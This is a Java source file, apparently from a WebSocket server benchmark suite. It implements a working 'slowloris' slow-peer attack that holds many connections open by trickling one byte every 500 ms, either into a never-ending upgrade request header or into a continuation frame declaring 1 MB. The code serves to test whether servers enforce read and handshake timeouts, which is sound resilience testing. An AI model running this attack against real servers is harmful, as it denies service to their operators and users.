package dev.wskit.benchmarks.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/**
 * Slow peers ("slowloris"): many connections, each sending one byte every
 * {@link #INTERVAL_MILLIS}, never finishing what they started, for the slow hold. Either the
 * opening handshake's head never ends, or, after a first fragment, a message never does. A server
 * without a read or handshake timeout keeps every such connection for as long as the peer likes.
 */
final class Trickle implements Attack {
    private static final long INTERVAL_MILLIS = 500;

    private final String name;
    private final String description;
    private final boolean upgradeFirst;
    private final byte[] start;
    private final byte filler;

    private Trickle(String name, String description, boolean upgradeFirst, byte[] start, byte filler) {
        this.name = name;
        this.description = description;
        this.upgradeFirst = upgradeFirst;
        this.start = start;
        this.filler = filler;
    }

    /** After a 1-byte first fragment, a continuation frame declaring 1 MB whose payload comes a byte at a time. */
    static Trickle message() {
        // Binary: the trickled bytes go out unmasked, so they unmask to anything, which text forbids (§8.1).
        byte[] first = Frames.frame(Frames.BINARY, new byte[] {'a'});
        byte[] next = Frames.header(Frames.CONTINUATION, 1_000_000);
        byte[] start = new byte[first.length + next.length];
        System.arraycopy(first, 0, start, 0, first.length);
        System.arraycopy(next, 0, start, first.length, next.length);
        return new Trickle("trickled-message", "a first fragment, then one byte every 500 ms", true, start, (byte) 'a');
    }

    /** An opening request whose head never ends: a header value growing a byte at a time. */
    static Trickle handshake(Target target) {
        String head = "GET / HTTP/1.1\r\nHost: " + target.host() + ":" + target.port() + "\r\nX-Slow: ";
        return new Trickle("trickled-handshake", "an opening request, one byte every 500 ms, never ending", false,
                head.getBytes(StandardCharsets.US_ASCII), (byte) 'a');
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public String description() {
        return description;
    }

    @Override
    public String run(Target target, Scale scale) throws Exception {
        try (Peers peers = upgradeFirst ? Peers.open(target, target.handshake(), scale.slowConnections())
                : Peers.connect(target, scale.slowConnections())) {
            long[] position = new long[peers.all.size()];
            boolean[] dropped = new boolean[position.length];
            long deadline = System.nanoTime() + scale.slowHoldMillis() * 1_000_000;
            while (System.nanoTime() < deadline) {
                for (int i = 0; i < position.length; i++) {
                    if (dropped[i]) {
                        continue;
                    }
                    Peer peer = peers.all.get(i);
                    byte next = position[i] < start.length ? start[(int) position[i]] : filler;
                    try {
                        peer.write(ByteBuffer.wrap(new byte[] {next}));
                        position[i]++;
                    } catch (IOException e) {
                        dropped[i] = true; // its fate says how
                    }
                }
                Thread.sleep(INTERVAL_MILLIS);
            }
            return peers.fates();
        }
    }
}
